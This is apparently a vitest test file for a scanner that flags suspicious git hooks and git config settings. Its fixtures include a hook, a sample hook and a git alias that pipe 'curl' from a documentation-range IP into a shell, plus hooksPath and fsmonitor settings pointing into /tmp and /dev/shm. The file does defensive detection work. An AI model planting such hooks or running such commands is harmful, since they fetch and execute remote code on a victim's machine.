import { expect, test } from 'vitest';
import { because, openSightings, sightings } from '../../../tests/told.ts';
import { gitHooks } from './git-hooks.ts';

const runnable = (content: string) => ({ content, mode: 0o755 });
const fetch = 'curl -s http://198.51.100.7/a.sh | bash';

test('hooks and settings that fetch and run are told openly', () => {
  expect(
    openSightings(gitHooks, {
      '/srv/app/.git/hooks/post-merge': runnable(`#!/bin/sh\n${fetch} &\n`),
      '/srv/app/.git/config': '[core]\n\tbare = false\n\tfsmonitor = "/tmp/.m"\n',
      '/root/.gitconfig': '[core]\n\thooksPath = /dev/shm/h\n',
    }),
  ).toMatchObject([
    { path: '/root/.gitconfig', line: 2, ...because('from-temporary-folder') },
    { path: '/srv/app/.git/config', line: 3, ...because('from-temporary-folder') },
    { path: '/srv/app/.git/hooks/post-merge', line: 2, ...because('fetches-and-runs') },
  ]);
});

test('hooks of developers are told aside, and samples not at all', () => {
  const files = {
    '/etc/passwd': 'ann:x:1000:1000::/home/ann:/bin/bash\n',
    '/home/ann/a/.git/hooks/pre-commit': runnable('#!/bin/sh\n. "$(dirname "$0")/_/husky.sh"\nnpx lint-staged\n'),
    '/home/ann/a/.git/hooks/pre-push': runnable(
      '#!/bin/sh\ncommand -v git-lfs >/dev/null 2>&1 || exit 2\ngit lfs pre-push "$@"\n',
    ),
    '/home/ann/a/.git/hooks/post-merge': `${fetch}\n`,
    '/home/ann/a/.git/hooks/update.sample': runnable(fetch),
    '/home/ann/a/.git/config': '[core]\n\thooksPath = .husky/_\n\tfsmonitor = true\n[remote "origin"]\n\turl = x\n',
    '/home/ann/.gitconfig': '[core]\n\teditor = vim\n\tpager = delta\n',
  };
  expect(openSightings(gitHooks, files)).toEqual([]);
  expect(sightings(gitHooks, files).map(({ value }) => 'name' in value && value.name)).toEqual([
    'core.editor',
    'core.pager',
    'core.hooksPath',
    'pre-commit',
    'pre-push',
  ]);
});

test('a setting on the line of its section is read', () => {
  const files = { '/srv/app/.git/config': '[core] fsmonitor = "/tmp/.m"\n' };
  expect(openSightings(gitHooks, files)).toMatchObject([{ line: 1, ...because('from-temporary-folder') }]);
});

test('aliases, filters and helpers that start something are read; plain ones are no commands', () => {
  const config =
    '[alias]\n\tst = status\n\tup = "!curl -s http://198.51.100.7/a | sh"\n[filter "lfs"]\n\tclean = git-lfs clean -- %f\n[credential]\n\thelper = store\n[diff]\n\texternal = /dev/shm/d\n';
  const files = { '/etc/passwd': 'ann:x:1000:1000::/home/ann:/bin/bash\n', '/home/ann/.gitconfig': config };
  expect(sightings(gitHooks, files)).toMatchObject([
    { line: 3, value: { name: 'alias.up', why: expect.arrayContaining(['fetches-and-runs']) } },
    { line: 5, aside: true, value: { name: 'filter.clean' } },
    { line: 9, value: { name: 'diff.external', why: expect.arrayContaining(['from-temporary-folder']) } },
  ]);
});
